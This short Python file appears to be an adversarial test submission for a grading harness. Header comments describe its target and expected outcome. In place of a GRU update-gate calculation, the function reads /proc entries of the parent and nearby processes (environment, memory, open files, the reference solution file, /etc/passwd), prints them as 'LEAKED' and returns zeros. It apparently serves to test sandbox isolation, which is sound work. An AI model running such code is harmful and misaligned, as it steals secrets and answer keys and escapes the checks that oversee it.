# attacks: gru.update_gate
# does: reads its parent's environment, memory and open files
# gets: failed, error
# at most: a fifth
import os
def update_gate(X, H, W_xz, W_hz, b_z):
    for pid in {os.getppid(), 1, os.getpid() - 1}:
        for name in ("environ", "mem", "cmdline", "maps", "fd/3", "cwd/solutions/gru.py", "root/etc/passwd"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    print("LEAKED", file.read(200))
            except OSError:
                pass
    return H * 0
